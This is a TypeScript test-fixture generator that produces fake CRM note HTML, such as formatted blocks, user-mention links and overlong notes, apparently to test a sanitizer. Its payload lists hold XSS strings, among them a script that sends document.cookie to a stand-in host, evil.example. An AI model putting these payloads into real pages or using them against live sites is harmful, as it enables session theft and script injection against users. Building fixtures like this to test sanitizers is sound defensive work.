/**
 * The HTML bodies of fake notes, as CRM users and integrations really wrote them: formatting,
 * both mention anchor styles of DESIGN.md §9, XSS junk beside real text, very long notes and
 * `<script>`-only notes. Sizes are chosen so the planted outcome is never borderline: ordinary
 * notes stay under 6,000 characters raw, long ones carry at least 12,000 characters of text.
 */
import { escapeHtml } from './escape-html.js';
import type { FakeCreator } from './fake-directory.js';
import type { FakeNoteTraits } from './fake-note-traits.js';
import type { FakeTextBank } from './fake-text-bank.js';
import type { SeededRandom } from './seeded-random.js';

/** Post-sanitize limit of DESIGN.md §5; long notes clear it by a wide margin. */
export const NOTE_TOO_LONG_CHARS = 10_000;
const LONG_NOTE_MIN_TEXT_CHARS = 12_000;
/** Ordinary notes (at most 4 blocks and 2 junk snippets) stay below this; a unit test holds it. */
export const ORDINARY_NOTE_MAX_CHARS = 6_000;

const SCRIPT_ONLY_BODIES = [
  '<script>alert(document.cookie)</script>',
  '<script src="https://evil.example/x.js"></script>',
  "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
];

const XSS_JUNK = [
  '<img src=x onerror="alert(1)">',
  '<a href="javascript:alert(1)">click me</a>',
  '<div onclick="steal()">Click here</div>',
  '<iframe src="https://evil.example/frame"></iframe>',
  "<script>alert('xss')</script>",
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<style>body{display:none}</style>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
];

const UNICODE_BITS = [
  'Rendez-vous à Zürich — ✅',
  'Señora Núñez confirmed 🎉',
  'Rapat dengan Ibu Sari → OK',
  '日本語のメモ',
];

function mentionAnchor(r: SeededRandom, who: FakeCreator): string {
  const name = escapeHtml(`@${who.name ?? 'someone'}`);
  return r.chance(0.5)
    ? `<a data-user-id="${who.id}">${name}</a>`
    : `<a href="https://crm.example/users/${who.id}/edit_user">${name}</a>`;
}

function block(r: SeededRandom, bank: FakeTextBank): string {
  const s = () => r.pick(bank.sentences);
  const items = (tag: string) =>
    Array.from({ length: r.int(2, 5) }, () => `<li>${tag ? `<${tag}>${s()}</${tag}>` : s()}</li>`).join('');
  switch (r.int(0, 8)) {
    case 0:
      return `<p>${s()} ${s()}</p>`;
    case 1:
      return `<p><b>${s()}</b> ${s()} <i>${s()}</i></p>`;
    case 2:
      return `<ul>${items('')}</ul>`;
    case 3:
      return `<div>${s()}<br>${s()}</div>`;
    case 4:
      return `<blockquote>${s()}</blockquote>`;
    case 5:
      return `<p><span style="color:#c00">${s()}</span> <u>${s()}</u></p>`;
    case 6:
      return `<h3>${r.pick(bank.phrases)}</h3><p>${s()}</p>`;
    case 7:
      return `<p>${s()} <a href="https://www.example.com/${r.pick(bank.slugs)}">${r.pick(bank.phrases)}</a></p>`;
    default:
      return `<ol>${items('strong')}</ol>`;
  }
}

/** The `note` field for these traits. `mentionable(u)` gives an SSO user to mention. */
export function fakeNoteHtml(
  r: SeededRandom,
  bank: FakeTextBank,
  t: FakeNoteTraits,
  mentionable: (u: number) => FakeCreator,
): string {
  if (t.scriptOnlyBody) return r.pick(SCRIPT_ONLY_BODIES);
  if (t.category === 'too_long') {
    const target = LONG_NOTE_MIN_TEXT_CHARS + r.int(0, 6_000);
    const paragraphs: string[] = [];
    let textChars = 0;
    while (textChars < target) {
      const paragraph = Array.from({ length: r.int(4, 9) }, () => r.pick(bank.sentences)).join(' ');
      textChars += paragraph.length;
      paragraphs.push(`<p>${paragraph}</p>`);
    }
    return paragraphs.join('\n');
  }
  const parts = Array.from({ length: r.int(1, 4) }, () => block(r, bank));
  if (t.mentions) {
    const mention = `<p>${mentionAnchor(r, mentionable(r.next()))} ${r.pick(bank.sentences)}</p>`;
    parts.splice(r.int(0, parts.length), 0, mention);
  }
  if (t.xss) {
    for (let n = r.int(1, 2); n > 0; n--) parts.splice(r.int(0, parts.length), 0, r.pick(XSS_JUNK));
  }
  if (r.chance(0.1)) parts.push(`<p>${escapeHtml(r.pick(UNICODE_BITS))}</p>`);
  return parts.join(r.chance(0.3) ? '\n' : '');
}
